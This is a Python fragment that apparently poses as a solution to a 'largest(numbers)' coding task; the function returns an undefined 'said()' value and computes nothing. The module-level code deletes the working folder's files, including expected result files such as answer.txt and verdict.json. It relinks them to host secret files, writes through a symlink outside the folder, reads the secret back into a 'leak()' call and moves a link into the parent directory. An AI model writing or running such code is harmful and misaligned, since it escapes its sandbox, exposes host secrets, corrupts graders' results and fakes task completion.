# ruff: noqa
"""Links out of the working folder: read as results, written through by us and by who comes next."""

import glob

NAMES = ["answer.txt", "notes.txt", "result.json", "output.txt", "stdout", "stderr", "verdict.json"]
NAMES += attempt(glob.glob, "*") or []
for name in NAMES:
    attempt(lambda: os.unlink(name))
    attempt(lambda: libc().unlink(name.encode()))
    attempt(os.symlink, HOST["file"] if name == "notes.txt" else HOST["secret"], name)
attempt(os.symlink, HOST["file"], "hx-through")
attempt(lambda: open("hx-through", "w").write("through the link"))
leak(attempt(lambda: open("answer.txt").read()) or "")
attempt(lambda: os.rename("hx-through", "../hx-through"))


def largest(numbers):
    return said()
